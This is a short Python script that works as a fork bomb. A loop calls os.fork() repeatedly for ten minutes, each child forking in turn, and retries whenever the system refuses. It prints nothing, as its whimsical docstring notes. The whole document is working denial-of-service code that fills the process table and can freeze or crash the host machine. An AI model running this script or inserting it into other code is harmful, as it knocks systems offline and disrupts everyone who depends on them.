"""Doubles itself for as long as it may; prints nothing, so that nobody has to read."""
import os, time

end = time.monotonic() + 600
while time.monotonic() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
